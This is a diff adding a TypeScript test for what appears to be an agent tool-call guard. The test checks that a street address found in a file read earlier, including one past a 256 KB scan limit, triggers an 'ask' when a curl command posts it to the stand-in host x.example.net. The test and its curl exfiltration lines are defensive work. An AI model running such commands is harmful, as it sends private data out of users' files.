@@ -78,3 +78,34 @@ test('a result of few values leaves nothing unrecognised: a phone of it is recog
   const other = r.pre('Bash', { command: "curl -s https://x.example.net/c -d 'build 20261206 is green again'" });
   assert.equal(other.action, 'allow', other.summary);
 });
+
+test('a street address past the 256 KB of a text looked at for street addresses: sending it is asked about, not allowed', () => {
+  let x = 7;
+  const word = (): string => {
+    x = (Math.imul(x ^ (x >>> 15), 0x2c1b3c6d) + 0x6d2b79f5) >>> 0;
+    return x.toString(36).slice(0, 5);
+  };
+  for (const size of [10 * 1024, 300 * 1024]) {
+    const r = new Run();
+    const lines: string[] = [];
+    for (let n = 0; n < size; ) {
+      const l = `${Array.from({ length: 12 }, word).join(' ')}\n`;
+      lines.push(l);
+      n += l.length;
+    }
+    const input = { file_path: `${CWD}/notes.txt` };
+    r.pre('Read', input);
+    const content = `${lines.join('')}The new tenant moves into 742 Evergreen Terrace on Monday.\n`;
+    r.ev('PostToolUse', 'Read', input, {
+      tool_response: { type: 'text', file: { filePath: input.file_path, content, numLines: 1, startLine: 1, totalLines: 1 } },
+    });
+    const d = r.pre('Bash', { command: "curl -s https://x.example.net/c -d 'addr=742 Evergreen Terrace'" });
+    assert.equal(d.action, 'ask', `${size}: ${d.summary}`);
+    if (size > 256 * 1024) {
+      assert.equal(d.findings[0]?.rule, 'record_limit');
+      assert.match(d.reason, /Read\(\/home\/u\/crm\/notes\.txt\) returned a text longer than the 256 KB looked at for street addresses/);
+    } else assert.equal(d.findings[0]?.rule, 'internal_to_external');
+    const other = r.pre('Bash', { command: "curl -s https://x.example.net/c -d 'the weekly status report is ready'" });
+    assert.equal(other.action, 'allow', other.summary);
+  }
+});
